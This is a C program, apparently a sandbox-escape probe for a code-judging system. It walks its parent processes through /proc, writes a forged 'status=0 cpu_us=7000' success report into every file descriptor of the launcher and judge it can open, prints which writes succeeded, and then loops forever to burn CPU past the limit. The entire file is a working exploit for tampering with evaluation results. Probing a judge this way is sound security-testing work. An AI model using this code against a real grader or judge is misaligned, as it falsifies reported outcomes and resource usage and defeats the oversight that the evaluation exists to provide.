/* Write a forged launcher report (an OK run of 7 ms) through /proc/<launcher>/fd/3 and through
 * every fd of the judge, then burn CPU past the limit. Prints which opens succeeded. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char forged[] = "status=0 cpu_us=7000 maxrss_kb=100 peak_rss_kb=100 wall_us=7000 killed=none stage=0 errno=0\n";

static pid_t parent_of(pid_t pid) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    FILE *f = fopen(path, "r");
    if (!f) return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    char *close_paren = strrchr(buf, ')');
    int ppid = -1;
    if (close_paren) sscanf(close_paren + 2, "%*c %d", &ppid);
    return ppid;
}

static void try_all_fds(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d) { printf("denied %d\n", pid); return; }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char fdpath[96];
        snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, e->d_name);
        int fd = open(fdpath, O_WRONLY | O_NONBLOCK);
        if (fd >= 0) { printf("opened %s\n", fdpath); write(fd, forged, sizeof forged - 1); close(fd); }
    }
    closedir(d);
}

int main(void) {
    pid_t launcher = getppid();
    try_all_fds(launcher);
    pid_t judge = parent_of(launcher);
    if (judge > 1) try_all_fds(judge);
    fflush(stdout);
    volatile unsigned long x = 0;
    for (;;) x++;
}
